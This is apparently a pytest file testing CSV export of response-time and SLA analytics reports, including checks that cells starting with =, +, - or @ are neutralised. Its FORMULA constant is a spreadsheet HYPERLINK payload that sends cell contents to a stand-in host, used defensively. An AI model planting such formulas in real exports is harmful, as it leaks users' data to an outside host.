"""CSV export of the response-time and SLA reports (`?format=csv`)."""

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
import time_machine

from accounts.models import Project
from tests.analytics.conftest import figures
from tests.helpers import assert_problem, iso

URL = "/api/v1/analytics/"
T0 = datetime(2026, 11, 1, tzinfo=UTC)
MINUTE = timedelta(minutes=1)
HOUR = timedelta(hours=1)


FORMULA = '=HYPERLINK("https://evil.test/?leak="&A1,"Click")'


def parse_csv(response):
    assert response.status_code == 200, response.content
    assert response.headers.get("Content-Type", "").startswith("text/csv"), response.headers
    return list(csv.reader(io.StringIO(response.content.decode())))


@pytest.fixture
def formula_endpoint(cast, make_endpoint, record):
    """An endpoint named like a spreadsheet formula, checked in the first and third hours."""
    with time_machine.travel(T0, tick=False):
        endpoint = make_endpoint(cast.project, name=FORMULA)
    record(endpoint, [(T0 + 5 * MINUTE, True, 100.0), (T0 + 2 * HOUR, True, 300.0)])
    return endpoint


@pytest.fixture
def after_three_hours():
    with time_machine.travel(T0 + 3 * HOUR, tick=False):
        yield


def test_response_time_as_csv_has_a_row_per_point(api, cast, formula_endpoint, after_three_hours):
    api.as_user(cast.owner)
    params = {"from": iso(T0), "to": iso(T0 + 3 * HOUR), "bucket": "1h", "format": "csv"}

    header, *rows = parse_csv(api.get(URL + "response-time", params))

    assert {"endpoint", "name", "t", "avg_ms", "min_ms", "max_ms", "p95_ms", "count"} <= set(header)
    records = [dict(zip(header, row, strict=True)) for row in rows]
    assert [r["t"] for r in records] == [iso(T0), iso(T0 + HOUR), iso(T0 + 2 * HOUR)]
    assert [r["count"] for r in records] == ["1", "0", "1"]
    assert [r["avg_ms"] for r in records] == ["100.0", "", "300.0"]
    assert {r["endpoint"] for r in records} == {str(formula_endpoint.id)}


def test_sla_as_csv_has_a_row_per_tier(api, cast, formula_endpoint, after_three_hours):
    api.as_user(cast.owner)

    header, *rows = parse_csv(api.get(URL + "sla", {"format": "csv"}))
    _, *one = parse_csv(api.get(URL + "sla", {"format": "csv", "target": "99.95"}))

    assert {"endpoint", "name", "target", "tier", "budget_remaining_s", "compliant"} <= set(header)
    records = [dict(zip(header, row, strict=True)) for row in rows]
    assert [r["tier"] for r in records] == ["Standard", "High", "Premium"]
    assert [r["target"] for r in records] == ["99.9", "99.95", "99.99"]
    assert [dict(zip(header, row, strict=True))["tier"] for row in one] == ["High"]


@pytest.mark.parametrize("route", ["response-time", "sla"])
@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(
    api, cast, make_endpoint, route, start
):
    make_endpoint(cast.project, name=start + FORMULA[1:])
    api.as_user(cast.owner)

    header, *rows = parse_csv(api.get(URL + route, {"format": "csv"}))

    names = {row[header.index("name")] for row in rows}
    assert names == {"'" + start + FORMULA[1:]}


@pytest.mark.parametrize("route", ["response-time", "sla"])
def test_a_formula_project_name_is_neutralised_too(api, cast, make_endpoint, route):
    project = Project.objects.create(organization=cast.org, name=FORMULA)
    make_endpoint(project)
    api.as_user(cast.owner)

    header, *rows = parse_csv(api.get(URL + route, {"format": "csv", "group_by": "project"}))

    names = {row[header.index("name")] for row in rows}
    assert names == {"Default", "'" + FORMULA}


@pytest.mark.parametrize(
    ("route", "columns"),
    [("response-time", {"t", "avg_ms", "count"}), ("sla", {"target", "tier", "compliant"})],
)
def test_a_csv_without_rows_still_has_its_header(api, cast, route, columns):
    empty = Project.objects.create(organization=cast.org, name="Empty")
    api.as_user(cast.owner)

    lines = parse_csv(api.get(URL + route, {"format": "csv", "project": str(empty.id)}))

    assert len(lines) == 1, lines
    assert columns <= set(lines[0])


def test_the_formula_name_stays_intact_in_json(api, cast, formula_endpoint, after_three_hours):
    api.as_user(cast.owner)

    rows = figures(api.get(URL + "response-time"))

    assert [row["name"] for row in rows] == [FORMULA]


@pytest.mark.parametrize("route", ["response-time", "sla"])
@pytest.mark.parametrize(
    "params",
    [
        pytest.param({"from": "yesterday"}, id="bad-date"),
        pytest.param({"period": "1y"}, id="bad-period"),
        pytest.param({"group_by": "team"}, id="bad-group_by"),
    ],
)
def test_an_invalid_csv_request_answers_problem_json(api, cast, make_endpoint, route, params):
    make_endpoint(cast.project)
    api.as_user(cast.owner)

    response = api.get(URL + route, {**params, "format": "csv"})

    problem = assert_problem(response, 400, "validation_error")
    assert set(problem["errors"]) == set(params)


@pytest.mark.parametrize("route", ["response-time", "sla"])
def test_a_refused_csv_request_answers_problem_json(api, cast, make_key, make_endpoint, route):
    theirs = make_endpoint(cast.other_project)

    missing = api.as_user(cast.owner).get(URL + route, {"format": "csv", "endpoint": theirs.id})
    scopeless = api.with_key(make_key(cast.owner, "endpoint:read")).get(
        URL + route, {"format": "csv"}
    )

    assert_problem(missing, 404, "not_found")
    assert_problem(scopeless, 403, "insufficient_scope")
